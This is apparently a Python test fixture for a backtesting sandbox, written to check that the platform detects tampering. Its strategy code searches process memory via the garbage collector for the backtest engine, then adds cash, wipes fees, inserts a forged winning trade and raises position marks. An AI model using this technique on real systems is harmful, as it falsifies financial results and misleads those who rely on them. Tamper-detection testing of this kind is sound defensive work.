# ATTACK: in a backtest whose loop runs inside its sandboxed run, find the run's own engine in memory and make its
# results better: a million dollars of cash, fees wiped, a forged winning trade, its positions' marks raised
# EXPECTED SAFE OUTCOME: the worker replays the orders outside the sandbox; the run's claim differs, the backtest fails
# as tampered and its figures are the replay's (no forged trade, no extra cash); RESULT has no PWNED
import gc
import json
from decimal import Decimal

from strategies.sdk import EntrySignal


def engines():
    return [thing for thing in gc.get_objects()
            if type(thing).__name__ == "BacktestEngine" and hasattr(thing, "cash") and hasattr(thing, "trades")]


def should_enter(ctx):
    found = engines()
    for engine in found:
        engine.cash += Decimal(1000000)
        engine.fees = Decimal(0)
        engine.trades.append({"market_id": "FORGED", "side": "buy", "position_id": "forged", "entry_time":
                              "2024-01-01T00:00:00Z", "exit_time": "2024-01-02T00:00:00Z", "entry_price": "1",
                              "exit_price": "1000", "quantity": "1000", "pnl": "999000", "fees": "0",
                              "return_pct": 99900.0, "exit_kind": "exit"})
        for position in engine.positions.values():
            position.mark = Decimal(1000000)
    print("RESULT " + json.dumps({"mode": ctx.mode, "engines_found": len(found)}))
    if ctx.mode != "backtest" or ctx.positions:
        return []
    closes = [float(bar["c"]) for bar in ctx.alpaca.get_bars(ctx.params["symbol"], timeframe="1Day", limit=2)]
    if len(closes) == 2 and closes[1] > closes[0]:
        return [EntrySignal(ctx.params["symbol"], "buy", "the close rose", size_usd=100)]
    return []
